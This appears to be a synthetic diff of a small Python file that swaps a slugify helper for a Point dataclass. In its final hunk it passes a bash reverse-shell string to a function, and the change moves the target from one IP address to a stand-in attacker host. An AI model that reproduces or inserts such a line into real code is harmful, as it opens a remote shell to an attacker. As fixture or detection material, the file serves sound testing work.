@@ -1,6 +1,12 @@
-#!/usr/bin/env python3
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
 
@@ -10,4 +16,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1")
+outer("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
